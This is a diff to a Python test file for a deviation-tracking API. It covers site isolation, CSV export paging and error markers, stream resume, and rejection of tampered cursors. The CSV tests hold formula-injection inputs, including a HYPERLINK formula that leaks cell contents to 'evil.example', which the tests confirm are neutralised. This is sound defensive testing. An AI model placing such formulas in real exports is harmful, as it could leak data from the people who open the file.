@@ -6,6 +6,7 @@ views' figures and the live SSE stream with resume.
 
 from __future__ import annotations
 
+import base64
 import contextlib
 import csv
 import hashlib
@@ -131,9 +132,72 @@ def test_a_site_token_without_a_site_filter_sees_only_its_own_site(api: TestClie
     assert api.get("/api/v1/sites", headers=auth("site-a")).json()["sites"] == ["site-a"]
 
 
-def test_a_site_token_gets_403_for_another_sites_deviation_detail(api: TestClient) -> None:
-    assert api.get("/api/v1/deviations/D4", headers=auth("site-a")).status_code == 403  # site-b's
+def test_another_sites_deviation_or_batch_answers_as_one_that_does_not_exist(api: TestClient) -> None:
+    """No existence oracle: a site token gets the same 404 for another site's id and for no id."""
+    foreign = api.get("/api/v1/deviations/D4", headers=auth("site-a"))  # site-b's
+    missing = api.get("/api/v1/deviations/NOPE", headers=auth("site-a"))
+    assert (foreign.status_code, missing.status_code) == (404, 404)
+    assert foreign.json() == {"detail": "no deviation D4"} and missing.json() == {
+        "detail": "no deviation NOPE"
+    }
+    assert api.get("/api/v1/deviations/D4", headers=auth("quality")).status_code == 200
     assert api.get("/api/v1/deviations/D1", headers=auth("site-a")).status_code == 200
+    for path in ("/api/v1/batches/{}/digest", "/api/v1/batches/{}/digest.html"):
+        foreign = api.get(path.format("B1"), headers=auth("site-a"))  # site-b's batch
+        missing = api.get(path.format("NO-SUCH"), headers=auth("site-a"))
+        assert (foreign.status_code, missing.status_code) == (404, 404)
+        assert foreign.json() == {"detail": "no batch B1"} and missing.json() == {
+            "detail": "no batch NO-SUCH"
+        }
+        assert api.get(path.format("B1"), headers=auth("quality")).status_code == 200
+        assert api.get(path.format("A1"), headers=auth("site-a")).status_code == 200
+    for view, key in (("deviation_triage", "D4"), ("batch_status", "B1")):
+        params = {"view": view, "key": key}
+        foreign = api.get("/api/v1/attribution", params=params, headers=auth("site-a"))
+        missing = api.get("/api/v1/attribution", params=params | {"key": "NO-SUCH"}, headers=auth("site-a"))
+        assert (foreign.status_code, missing.status_code) == (404, 404)
+        assert foreign.json()["detail"] == f"no {view} row {key}"
+        assert api.get("/api/v1/attribution", params=params, headers=auth("quality")).status_code == 200
+
+
+SITE_SCOPED = [
+    "/api/v1/deviations",
+    "/api/v1/capacity",
+    "/api/v1/drift",
+    "/api/v1/performance",
+    "/api/v1/completeness",
+    "/api/v1/integrity/findings",
+    "/api/v1/sites",
+]
+
+
+@pytest.mark.parametrize("path", SITE_SCOPED)
+def test_a_site_tokens_answers_name_nothing_of_another_site(api: TestClient, path: str) -> None:
+    r = api.get(path, headers=auth("site-a"))
+    assert r.status_code == 200, r.text
+    # site-b's site id, modules and batches appear nowhere (performance keeps network medians only)
+    for other in ("site-b", "b-m1", '"B1"', '"B2"', '"B3"', '"D4"', '"D5"'):
+        assert other not in r.text, (path, other)
+    assert "site-b" in api.get(path, headers=auth("quality")).text or path == "/api/v1/integrity/findings"
+
+
+def test_drift_version_skew_of_a_site_token_is_its_own_sites(api: TestClient) -> None:
+    """Network skew counts site-b's module; a site token sees the skew among its own modules."""
+    network = api.get("/api/v1/drift", headers=auth("quality")).json()["version_skew"]
+    assert network[0]["versions"]["4.2.1"] == {"sites": 2, "modules": 2}
+    own = api.get("/api/v1/drift", headers=auth("site-a")).json()
+    assert own["version_skew"] == [
+        {
+            "module_type": "cliniprep-x",
+            "component": "controller",
+            "versions": {"4.2.1": {"sites": 1, "modules": 1}, "4.3.0": {"sites": 1, "modules": 1}},
+        }
+    ]
+    # quality asking for one site gets the same scope
+    assert api.get("/api/v1/drift", params={"site": "site-a"}, headers=auth("quality")).json() == own
+    # site-b alone runs one version: no skew there
+    only_b = api.get("/api/v1/drift", params={"site": "site-b"}, headers=auth("quality")).json()
+    assert only_b["version_skew"] == []
 
 
 def test_operations_sees_every_site_but_no_full_detail_and_no_export(api: TestClient) -> None:
@@ -160,6 +224,131 @@ def test_site_csv_export_holds_only_its_own_site(api: TestClient) -> None:
     r = api.get("/api/v1/deviations.csv", headers=auth("site-a"))
     assert r.status_code == 200
     assert {row["site_id"] for row in csv.DictReader(io.StringIO(r.text))} == {"site-a"}
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "'\rcmd"),
+        ("plain text", "plain text"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (-3.5, -3.5),  # numbers stay numbers
+        (-7, -7),
+        (None, None),
+        (False, False),
+    ],
+)
+def test_csv_safe_prefixes_formula_text_only(value: Any, cell: Any) -> None:
+    from atmpnet.api.deviations import csv_safe
+
+    assert csv_safe(value) == cell
+
+
+def test_csv_export_neutralises_formula_cells_and_keeps_negative_numbers(
+    clickhouse: Client, clickhouse_settings: Settings, codec: AvroCodec
+) -> None:
+    apply_migrations(clickhouse)
+    b = NetworkBuilder()
+    b.deviation(
+        "EVIL-1",
+        DeviationTransition.RAISED,
+        T0 + timedelta(days=11, hours=1),
+        site="site-a",
+        module="a-m1",
+        lane=3,
+        parameter="temperature",
+        alarm_code="PRC-T2",
+    )
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
+    b.events[-1] = b.events[-1].model_copy(
+        update={"description": hyperlink, "raised_by": "@operator", "observed_value": -3.5, "limit_low": -2.0}
+    )
+    store(clickhouse, codec, [*build_network(), *b.events])
+    api = TestClient(create_api(clickhouse_settings, clickhouse, tokens=tokens()))
+    r = api.get("/api/v1/deviations.csv", headers=auth("quality"))
+    assert r.status_code == 200
+    rows = {row["deviation_id"]: row for row in csv.DictReader(io.StringIO(r.text))}
+    evil = rows["EVIL-1"]
+    assert evil["description"] == "'" + hyperlink
+    assert evil["raised_by"] == "'@operator"
+    assert (evil["observed_value"], evil["limit_low"]) == ("-3.5", "-2.0")  # numbers, unquoted
+    assert float(evil["observed_value"]) == -3.5
+    assert "\n=HYPERLINK" not in r.text and ",=HYPERLINK" not in r.text
+    assert rows["D1"]["description"] == "D1 raised: confidential detail"  # plain text untouched
+    assert len(rows) == len(EXPECTED["class"]) + 1
+
+
+def test_csv_export_failing_midway_ends_with_an_error_line_and_an_aborted_body(
+    network_db: Client, clickhouse_settings: Settings, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from atmpnet.api import deviations as deviations_api
+    from atmpnet.errors import WarehouseError
+    from atmpnet.warehouse.queries import Warehouse
+
+    monkeypatch.setattr(deviations_api, "EXPORT_PAGE_ROWS", 2)
+    real = Warehouse.deviations
+    calls = {"n": 0, "fail_at": 2}
+
+    def failing(self: Warehouse, *args: Any, **kwargs: Any) -> Any:
+        calls["n"] += 1
+        if calls["n"] == calls["fail_at"]:
+            raise WarehouseError("query failed: injected")
+        return real(self, *args, **kwargs)
+
+    monkeypatch.setattr(Warehouse, "deviations", failing)
+    app = create_api(clickhouse_settings, network_db, tokens=tokens())
+    with ApiServer(app) as server, httpx.Client(base_url=server.url, timeout=10) as http:
+        received: list[bytes] = []
+
+        def download() -> None:
+            with http.stream("GET", "/api/v1/deviations.csv", headers=auth("quality")) as r:
+                assert r.status_code == 200
+                received.extend(r.iter_raw())
+
+        with pytest.raises(httpx.HTTPError) as aborted:  # no final chunk: the transfer is incomplete
+            download()
+        assert isinstance(aborted.value, httpx.RemoteProtocolError | httpx.ReadError), aborted.value
+        text = b"".join(received).decode()
+        lines = text.splitlines()
+        assert lines[0].startswith("deviation_id,") and len(lines) == 1 + 2 + 1  # header, page 1, marker
+        assert lines[-1] == "#ERROR: export incomplete: query failed; this file is truncated"
+        # a failure before the first page is an error status, not a 200 with an empty file
+        calls.update(n=0, fail_at=1)
+        r = http.get("/api/v1/deviations.csv", headers=auth("quality"))
+        assert r.status_code == 503
+        # and without a failure the same small pages make the whole file
+        calls.update(n=0, fail_at=-1)
+        r = http.get("/api/v1/deviations.csv", headers=auth("quality"))
+        assert r.status_code == 200 and "#ERROR" not in r.text
+        assert len(list(csv.DictReader(io.StringIO(r.text)))) == len(EXPECTED["class"])
+
+
+def test_csv_export_pages_come_from_one_view_generation(network_db: Client) -> None:
+    from atmpnet.warehouse.queries import DeviationFilter, ViewMoved, Warehouse
+    from atmpnet.warehouse.views import refresh_views
+
+    wh = Warehouse(network_db)
+    # one refresh between pages: the pinned generation is still kept, the pages are one snapshot
+    pages = wh.deviation_pages(DeviationFilter(), sort="raised_at", block=2)
+    walked = [i["deviation_id"] for i in next(pages)]
+    pinned = wh.committed_generation()
+    assert pinned is not None
+    refresh_views(network_db)
+    walked += [i["deviation_id"] for page in pages for i in page]
+    assert walked == ["D1", "D6", "D5", "D2", "D3", "D4"]
+    # the view moved on twice during an export: its generation's rows are gone, the export says so
+    pages = wh.deviation_pages(DeviationFilter(), sort="raised_at", block=2)
+    next(pages)
+    refresh_views(network_db)
+    refresh_views(network_db)
+    with pytest.raises(ViewMoved, match="run the export again"):
+        next(pages)
 
 
 def test_tokens_never_reach_the_log(api: TestClient, caplog: pytest.LogCaptureFixture) -> None:
@@ -243,6 +432,54 @@ def test_a_foreign_or_mismatched_cursor_is_a_400(api: TestClient) -> None:
     assert (
         api.get("/api/v1/deviations", params={"severity": "HUGE"}, headers=auth("quality")).status_code == 422
     )
+
+
+def _cursor(payload: Any) -> str:
+    raw = json.dumps(payload).encode() if not isinstance(payload, bytes) else payload
+    return base64.urlsafe_b64encode(raw).decode().rstrip("=")
+
+
+@pytest.mark.parametrize(
+    ("sort", "payload"),
+    [
+        ("-raised_at", {"s": "-raised_at", "v": ["yesterday", "D1"]}),  # a string for an Int64
+        ("-raised_at", {"s": "-raised_at", "v": [1.5, "D1"]}),
+        ("-raised_at", {"s": "-raised_at", "v": [2**63, "D1"]}),  # beyond Int64
+        ("-raised_at", {"s": "-raised_at", "v": [True, "D1"]}),
+        ("-raised_at", {"s": "-raised_at", "v": [None, "D1"]}),
+        ("-raised_at", {"s": "-raised_at", "v": [1, 7]}),  # the id must be a string
+        ("-raised_at", {"s": "-raised_at", "v": [1, ["D1"]]}),
+        ("-raised_at", {"s": "-raised_at", "v": [1, "D1", 3]}),
+        ("-raised_at", {"s": "-raised_at", "v": {"a": 1}}),
+        ("-raised_at", {"s": 5, "v": [1, "D1"]}),
+        ("-raised_at", [1, "D1"]),  # not an object
+        ("-raised_at", "just a string"),
+        ("severity", {"s": "severity", "v": [-1, "D1"]}),  # beyond UInt8
+        ("severity", {"s": "severity", "v": [256, "D1"]}),
+        ("severity", {"s": "severity", "v": ["MAJOR", "D1"]}),
+        ("site", {"s": "site", "v": [5, "D1"]}),  # a number for a String
+        ("-status", {"s": "-status", "v": [{"x": 1}, "D1"]}),
+        ("-raised_at", b"\xff\xfe not utf-8"),
+    ],
+)
+def test_a_tampered_cursor_is_a_400_with_a_clear_message_not_a_503(
+    api: TestClient, sort: str, payload: Any
+) -> None:
+    r = api.get(
+        "/api/v1/deviations", params={"sort": sort, "cursor": _cursor(payload)}, headers=auth("quality")
+    )
+    assert r.status_code == 400, r.text
+    assert r.json()["detail"].startswith("cursor is not one this API issued")
+
+
+def test_a_cursor_with_non_ascii_or_oversized_text_is_a_400(api: TestClient) -> None:
+    for cursor in ("é" * 10, "A" * 5000, ""):
+        r = api.get("/api/v1/deviations", params={"cursor": cursor}, headers=auth("quality"))
+        assert r.status_code == 400, (cursor[:10], r.text)
+    # a well-formed cursor of the right types still pages (after D4, the newest)
+    page = api.get("/api/v1/deviations", params={"limit": 1}, headers=auth("quality")).json()
+    r = api.get("/api/v1/deviations", params={"cursor": page["next_cursor"]}, headers=auth("quality"))
+    assert ids(r)[0] == "D3"
 
 
 def test_one_deviation_comes_with_its_batch_context(api: TestClient) -> None:
@@ -426,26 +663,105 @@ def test_stream_delivers_new_deviations_live_and_resumes_from_last_event_id(
         assert http.get(url, headers=bad).status_code == 400
 
 
-def test_the_live_streams_triage_agrees_with_the_triage_view(network_db: Client) -> None:
-    """The stream triages changed deviations from the event store in SQL; the list reads the
-    projector's view. Both implement the contract's rules, so every field they share must agree."""
-    from atmpnet.warehouse.queries import DeviationFilter, Warehouse
+def test_the_stream_serves_the_triage_views_rows(network_db: Client) -> None:
+    """One rule set: the stream's rows are the list's rows (the same view), every column, duplicates
+    and cluster sizes included."""
+    from atmpnet.warehouse.queries import LIST_COLUMNS, DeviationFilter, Warehouse
 
     wh = Warehouse(network_db)
     streamed = {i["deviation_id"]: i for i in wh.deviation_changes(None, None, limit=1000)}
     listed = {i["deviation_id"]: i for i in wh.deviations(DeviationFilter(), limit=1000).items}
     assert streamed.keys() == listed.keys() == EXPECTED["class"].keys()
     for dev_id, view in listed.items():
-        for field in (
-            "class",
-            "severity",
-            "status",
-            "priority",
-            "raised_at",
-            "closed_at",
-            "updated_at",
-            "due_at",
-        ):
-            assert streamed[dev_id][field] == view[field], (dev_id, field)
-        assert streamed[dev_id]["software_version"] == view["software_version"], dev_id
-        assert streamed[dev_id]["overdue"] == view["overdue"], dev_id
+        assert set(streamed[dev_id]) == {*LIST_COLUMNS, "_cursor"}
+        assert {k: streamed[dev_id][k] for k in LIST_COLUMNS} == view, dev_id
+    assert streamed["D3"]["duplicate_of"] == "D2" and streamed["D3"]["class"] == "DUPLICATE"
+    assert streamed["D3"]["module_cluster_size"] == 2
+
+
+def _deviation(
+    b: NetworkBuilder, dev_id: str, transition: DeviationTransition, at: datetime, **kw: Any
+) -> None:
+    b.deviation(dev_id, transition, at, site="site-b", module="b-m1", lane=2, alarm_code="DAT-GAP", **kw)
+
+
+def _store_one(
+    codec: AvroCodec, client: Client, dev_id: str, transition: DeviationTransition, at: datetime
+) -> None:
+    b = NetworkBuilder()
+    _deviation(b, dev_id, transition, at)
+    store(client, codec, b.events, datetime.now(UTC))
+
+
+def test_stream_resends_a_deviation_when_its_triage_changes(
+    clickhouse: Client, clickhouse_settings: Settings, codec: AvroCodec
+) -> None:
+    """A status change and a duplicate_of that an earlier deviation's late arrival decides both
+    re-send the row; each frame is the list's row; a resume delivers each changed row once."""
+    apply_migrations(clickhouse)
+    store(clickhouse, codec, build_network())
+    app = create_api(clickhouse_settings, clickhouse, tokens=tokens(), stream_poll_s=0.1)
+    t = T0 + timedelta(days=11, hours=13)
+    raised, closed = DeviationTransition.RAISED, DeviationTransition.CLOSED
+    with ApiServer(app) as server, httpx.Client(base_url=server.url, timeout=10) as http:
+
+        def listed(frame: dict[str, Any]) -> dict[str, Any]:
+            """The list endpoint's row of the frame's deviation, on the frame's columns."""
+            r = http.get("/api/v1/deviations", params={"site": "site-b"}, headers=auth("ops"))
+            row = next(i for i in r.json()["items"] if i["deviation_id"] == frame["deviation_id"])
+            return {k: row[k] for k in frame}
+
+        with http.stream("GET", "/api/v1/deviations/stream", headers=auth("ops")) as r:
+            lines = r.iter_lines()
+            _store_one(codec, clickhouse, "LATE-2", raised, t)
+            [(first_id, late)] = _read_events(lines, 1, 5)
+            assert (late["deviation_id"], late["class"], late["duplicate_of"]) == (
+                "LATE-2",
+                "DATA_INTEGRITY",
+                None,
+            )
+            # an earlier deviation with the same key, still open, arrives late: LATE-2 becomes its duplicate
+            _store_one(codec, clickhouse, "EARLY-1", raised, t - timedelta(hours=1))
+            got = {e["deviation_id"]: e for _, e in _read_events(lines, 2, 5)}
+            assert set(got) == {"EARLY-1", "LATE-2"}
+            assert (got["LATE-2"]["class"], got["LATE-2"]["severity"]) == ("DUPLICATE", "MINOR")
+            assert got["LATE-2"]["duplicate_of"] == "EARLY-1"
+            assert got["LATE-2"] == listed(got["LATE-2"]) and got["EARLY-1"] == listed(got["EARLY-1"])
+            # a status change
+            _store_one(codec, clickhouse, "LATE-2", closed, t + timedelta(minutes=5))
+            [(_, closed_row)] = _read_events(lines, 1, 5)
+            assert (closed_row["deviation_id"], closed_row["status"]) == ("LATE-2", "CLOSED")
+            assert closed_row == listed(closed_row)
+        # resuming after the first frame: each deviation changed since, once, in its latest state
+        with http.stream(
+            "GET", "/api/v1/deviations/stream", headers=auth("ops") | {"Last-Event-ID": first_id}
+        ) as r:
+            resumed = _read_events(r.iter_lines(), 2, 5)
+            assert [e["deviation_id"] for _, e in resumed] == ["EARLY-1", "LATE-2"]
+            assert resumed[1][1]["status"] == "CLOSED" and resumed[1][1]["duplicate_of"] == "EARLY-1"
+
+
+@pytest.mark.parametrize(
+    ("event_id", "code"),
+    [
+        (f"{2**63}-D1", 400),  # one past Int64
+        ("99999999999999999999-D1", 400),  # 20 digits
+        ("-5-D1", 400),
+        ("garbage", 400),
+        (f"{2**63 - 1}-D1", None),  # the largest cursor is one of ours
+    ],
+)
+def test_last_event_id_beyond_a_signed_64_bit_cursor_is_a_400(
+    api: TestClient, event_id: str, code: int | None
+) -> None:
+    from atmpnet.api.stream import parse_event_id
+    from fastapi import HTTPException
+
+    if code is None:
+        assert parse_event_id(event_id) == (2**63 - 1, "D1")
+        return
+    with pytest.raises(HTTPException) as err:
+        parse_event_id(event_id)
+    assert err.value.status_code == code
+    r = api.get("/api/v1/deviations/stream", headers=auth("quality") | {"Last-Event-ID": event_id})
+    assert r.status_code == 400 and r.json()["detail"] == "Last-Event-ID is not an event id of this stream"
